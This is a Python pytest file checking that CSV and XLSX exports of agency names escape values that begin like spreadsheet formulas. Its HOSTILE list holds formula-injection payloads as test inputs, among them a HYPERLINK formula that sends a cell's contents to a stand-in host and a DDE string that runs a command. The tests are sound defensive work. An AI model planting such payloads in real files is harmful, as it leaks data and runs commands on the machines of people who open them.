"""Exports keep agency names that start like formulas as text: no spreadsheet evaluates them."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from hub.console.exports import to_csv, to_xlsx

HEADER = ["Mã", "Tên"]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A2,"Bấm vào")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def _csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("name", HOSTILE)
def test_a_csv_name_starting_like_a_formula_gets_a_leading_apostrophe(name: str) -> None:
    cells = _csv_cells(to_csv(HEADER, [["000.00.01.H26", name]]))

    assert cells[1] == ["000.00.01.H26", "'" + name]


def test_csv_leaves_ordinary_names_and_numbers_as_they_are() -> None:
    cells = _csv_cells(to_csv(HEADER, [["000.00.01.H26", "Sở Nội vụ", -1.5, None]]))

    assert cells[1] == ["000.00.01.H26", "Sở Nội vụ", "-1.5", ""]


@pytest.mark.parametrize("name", HOSTILE)
def test_an_xlsx_name_starting_like_a_formula_is_a_text_cell_with_its_value_unchanged(
    name: str,
) -> None:
    data = to_xlsx(HEADER, [["000.00.01.H26", name]], "Đơn vị")

    cell = load_workbook(io.BytesIO(data)).active["B2"]  # type: ignore[index]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (name, "s", True)
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")


def test_xlsx_keeps_numbers_as_numbers() -> None:
    data = to_xlsx(HEADER, [["000.00.01.H26", -1.5]], "Đơn vị")

    cell = load_workbook(io.BytesIO(data)).active["B2"]  # type: ignore[index]
    assert (cell.value, cell.data_type) == (-1.5, "n")
